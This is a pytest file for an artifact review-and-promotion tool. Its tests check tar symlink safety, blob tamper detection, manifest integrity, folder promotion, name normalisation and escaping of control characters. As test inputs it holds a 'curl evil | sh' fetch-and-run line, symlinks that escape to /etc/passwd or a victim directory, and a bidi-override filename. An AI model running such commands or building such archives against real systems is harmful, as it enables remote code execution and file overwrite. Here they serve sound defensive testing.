"""The pieces that keep promoted bytes equal to reviewed bytes, in-process: tree checks, blobs,
artifacts, promotion by descriptor, names, the renderer and the diff cut. Real files, real tars."""

import io
import json
import tarfile
from pathlib import Path

import pytest

from executors._tarsafe import check_archive, tree_problem
from executors.errors import WorkspaceError
from workflows.artifacts.artifact import (
    FORMAT,
    Artifact,
    ArtifactError,
    Change,
    Side,
    build_artifact,
    read_artifact,
    read_listing,
)
from workflows.artifacts.gitdiff import Entry
from workflows.errors import IdentityError, PromotionError
from workflows.identity import person_key
from workflows.plain import plain
from workflows.service.review_view import cut_diff
from workflows.store.blobs import BlobCorrupt, BlobStore, sha256_of
from workflows.targets.local import promote_directory
from workflows.visible import visible

LIMIT = 1 << 20


def tar(*members: tuple[str, str, bytes | str]) -> bytes:
    """A tar of (name, kind, content): kind is file, exe, dir or link (content = target)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, kind, content in members:
            info = tarfile.TarInfo(name)
            if kind == "dir":
                info.type = tarfile.DIRTYPE
                archive.addfile(info)
            elif kind == "link":
                info.type, info.linkname = tarfile.SYMTYPE, str(content)
                archive.addfile(info)
            else:
                data = content if isinstance(content, bytes) else content.encode()
                info.size, info.mode = len(data), 0o755 if kind == "exe" else 0o644
                archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def test_a_torn_snapshot_with_a_file_below_a_link_is_refused() -> None:
    torn = tar(("s", "dir", ""), ("s/d", "link", "/home/victim"), ("s/d/x", "file", "payload"))
    with pytest.raises(WorkspaceError, match="'s/d/x' lies below the symlink 's/d'"):
        check_archive(torn, LIMIT)
    with pytest.raises(WorkspaceError, match="twice"):
        check_archive(tar(("a", "file", "1"), ("a", "file", "2")), LIMIT)


@pytest.mark.parametrize(
    ("tree", "problem"),
    [
        ({"a": None, "a/up": "..", "leak": "a/up/a/up/../../etc/passwd"}, "'leak'"),
        ({"abs": "/etc/passwd"}, "'abs'"),
        ({"x": "y", "y": "x"}, "resolves outside"),  # a loop never resolves
        ({"d": None, "d/e": "../../outside"}, "'d/e'"),
    ],
)
def test_links_that_resolve_outside_through_other_links_are_refused(tree: dict[str, str | None], problem: str) -> None:
    assert problem in (tree_problem(tree) or "")


def test_links_that_stay_inside_are_accepted() -> None:
    tree = {"a": None, "a/b": None, "l": "a/b", "a/up": "..", "m": "a/up/a/b", "dangling": "nowhere"}
    assert tree_problem(tree) is None
    assert check_archive(tar(("s", "dir", ""), ("s/l", "link", "../t"), ("t", "dir", "")), LIMIT) == ["s", "s/l", "t"]


def test_blobs_are_verified_on_read_and_repaired_on_write(tmp_path: Path) -> None:
    blobs = BlobStore(tmp_path / "blobs")
    sha = blobs.put(b"reviewed bytes")
    blobs.path(sha).write_bytes(b"tampered bytes")
    with pytest.raises(BlobCorrupt, match="no longer matches its sha256"):
        blobs.get(sha)
    assert blobs.put(b"reviewed bytes") == sha  # another run storing the same artifact mends it
    assert blobs.get(sha) == b"reviewed bytes"


def workspace(files: dict[str, Entry]) -> bytes:
    """A workspace snapshot holding `files`."""
    return tar(*((name, _kind(e), e.data.decode() if e.kind == "link" else e.data) for name, e in files.items()))


def _kind(entry: Entry) -> str:
    return "link" if entry.kind == "link" else "exe" if entry.executable else "file"


BASE = {"keep.txt": Entry("file", b"keep\n"), "tool.sh": Entry("file", b"echo\n"), "empty": Entry("file", b"")}
AFTER = {
    "keep.txt": Entry("file", b"keep\n"),
    "tool.sh": Entry("file", b"echo\n", executable=True),
    "new-empty": Entry("file", b""),
    "link": Entry("link", b"keep.txt"),
    "evil\u202etxt.py": Entry("file", b"x = 1\n"),
}


def test_the_artifact_lists_every_change_with_its_kind_and_flags() -> None:
    data, built = build_artifact(workspace(BASE), workspace(AFTER), "0" * 64)
    artifact = read_artifact(data)
    assert artifact == built  # what the gate sees as it builds is what is stored
    by_path = {change.path: change for change in artifact.changes}
    assert by_path["tool.sh"].status == "mode_changed"
    assert {"mode change", "executable"} <= set(by_path["tool.sh"].flags)
    assert by_path["new-empty"].status == "added" and "empty" in by_path["new-empty"].flags
    assert by_path["empty"].status == "deleted" and "empty" in by_path["empty"].flags
    assert by_path["link"].new == Side("link", "120000", 8, sha256_of(b"keep.txt"), False, "keep.txt")
    assert "name: bidi control U+202E" in by_path["evil\u202etxt.py"].flags
    assert "keep.txt" not in by_path
    assert artifact.deleted == ("empty",)


def test_an_artifact_whose_bytes_disagree_with_its_manifest_is_refused() -> None:
    good = build_artifact(workspace(BASE), workspace(AFTER), "0" * 64)[0]
    members = []
    with tarfile.open(fileobj=io.BytesIO(good)) as archive:
        for member in archive:
            data = archive.extractfile(member).read() if member.isfile() else b""  # type: ignore[union-attr]
            if member.name == "files/new-empty":
                data = b"curl evil | sh\n"
            kind = "link" if member.issym() else "exe" if member.mode & 0o100 else "file"
            members.append((member.name, kind, member.linkname if member.issym() else data))
    with pytest.raises(ArtifactError, match="do not match its manifest"):
        read_artifact(tar(*members))


def test_the_listing_a_reviewer_reads_is_the_artifacts_and_refuses_an_outside_link() -> None:
    data, built = build_artifact(workspace(BASE), workspace(AFTER), "0" * 64)
    listing = read_listing(data)
    assert (listing.changes, listing.diff, listing.base_snapshot) == (built.changes, built.diff, built.base_snapshot)
    assert listing.files == {}  # promotion reads (and checks) the files with read_artifact
    leak = Change("leak", "added", None, Side.of(Entry("link", b"../../etc/passwd")), ())
    manifest = {"format": FORMAT, "base_snapshot": "0" * 64, "changes": plain([leak])}
    hostile = tar(("manifest.json", "file", json.dumps(manifest).encode()), ("changes.diff", "file", b""))
    with pytest.raises(ArtifactError, match="cannot be applied safely"):
        read_listing(hostile)


def forged(files: dict[str, Entry], deleted: tuple[str, ...] = ()) -> Artifact:
    """An artifact made by hand, as if every check before promotion had been bypassed."""
    changes = [Change(name, "added", None, Side.of(entry), ()) for name, entry in files.items()]
    changes += [Change(name, "deleted", Side.of(Entry("file", b"")), None, ()) for name in deleted]
    return Artifact("0" * 64, tuple(changes), "", files)


def test_promotion_to_a_folder_never_writes_through_a_link(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    artifact = forged({"s/d": Entry("link", str(victim).encode()), "s/d/x": Entry("file", b"payload")})
    with pytest.raises(PromotionError, match="not a plain folder|File exists"):
        promote_directory(tmp_path / "out", artifact, "0" * 64)
    assert list(victim.iterdir()) == []
    assert not (tmp_path / "out").exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out")] == []  # staging cleaned up


def test_a_change_cannot_forge_the_folder_marker(tmp_path: Path) -> None:
    artifact = forged({".crewgate-artifact": Entry("file", b"f" * 64 + b"\n")})  # would fake "already promoted"
    with pytest.raises(PromotionError, match="refusing to write '.crewgate-artifact'"):
        promote_directory(tmp_path / "out", artifact, "a" * 64)
    assert list(tmp_path.iterdir()) == []


def test_promotion_to_a_folder_refuses_deletions(tmp_path: Path) -> None:
    artifact = forged({"a.txt": Entry("file", b"a")}, deleted=("old.txt",))
    with pytest.raises(PromotionError, match="deletes 1 path.*cannot delete"):
        promote_directory(tmp_path / "out", artifact, "0" * 64)
    assert not (tmp_path / "out").exists()


def test_promotion_to_a_folder_keeps_modes_links_and_empty_files(tmp_path: Path) -> None:
    files = {"bin/run": Entry("file", b"#!/bin/sh\n", True), "e": Entry("file", b""), "l": Entry("link", b"bin/run")}
    out = Path(promote_directory(tmp_path / "out", forged(files), "f" * 64))
    assert (out / "bin/run").stat().st_mode & 0o777 == 0o755
    assert (out / "e").read_bytes() == b"" and (out / "l").readlink() == Path("bin/run")


@pytest.mark.parametrize(("given", "key"), [("alice", "alice"), (" Alice ", "alice"), ("ＡＬＩＣＥ", "alice")])
def test_reviewer_names_compare_by_one_key(given: str, key: str) -> None:
    assert person_key(given) == key


@pytest.mark.parametrize("bad", ["", "   ", "bob\x1b[2J", "mal\u202elory", "eve\nalice"])
def test_names_with_control_characters_or_nothing_in_them_are_refused(bad: str) -> None:
    with pytest.raises(IdentityError):
        person_key(bad)


def test_the_renderer_escapes_and_flags_what_could_hide_or_drive_text() -> None:
    shown = visible("ok\x1b[2J\u202edone\u200b\nnext\tline")
    assert shown.text == "ok\\x1b[2J\\u202edone\\u200b\nnext\tline"
    assert shown.flags == ("terminal escape U+001B", "bidi control U+202E", "invisible character U+200B")
    assert visible("a\nb", multiline=False).text == "a\\x0ab"


def test_a_cut_diff_says_where_and_how_much() -> None:
    diff = "".join(f"diff --git a/f{n} b/f{n}\n+line {n}\n" for n in range(100))
    shown, cut = cut_diff(diff, 500, "rev-1")
    assert cut and shown.count("diff --git") < 100
    marker = json.dumps(shown.rsplit("\n[", 1)[1])
    assert "the diffs of" in marker and "of 100 files are not shown" in marker and "--full" in marker
    assert cut_diff(diff, None, "rev-1") == (diff, False)
